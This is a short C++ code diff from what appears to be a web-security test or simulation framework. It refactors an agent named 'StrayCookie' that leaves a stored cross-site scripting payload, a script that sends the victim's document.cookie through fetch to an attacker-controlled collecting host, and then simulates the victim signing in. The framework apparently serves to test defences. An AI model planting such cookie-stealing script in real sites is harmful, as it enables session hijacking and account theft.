@@ -16,11 +16,10 @@ class StrayCookie final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || target.victim() == nullptr) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
+        std::string const address = collecting_address(*evil);
         StoredText text(target);
         if (text.has_place())
-            text.leave("<script>" +
-                       send_script(Channel::Fetch, address_on(*evil, "c"), "document.cookie") +
+            text.leave("<script>" + send_script(Channel::Fetch, address, "document.cookie") +
                        "</script>");
         if (!victim_signs_in(target)) return;
         victim_does(target, routines_option(target, option::kDoes));
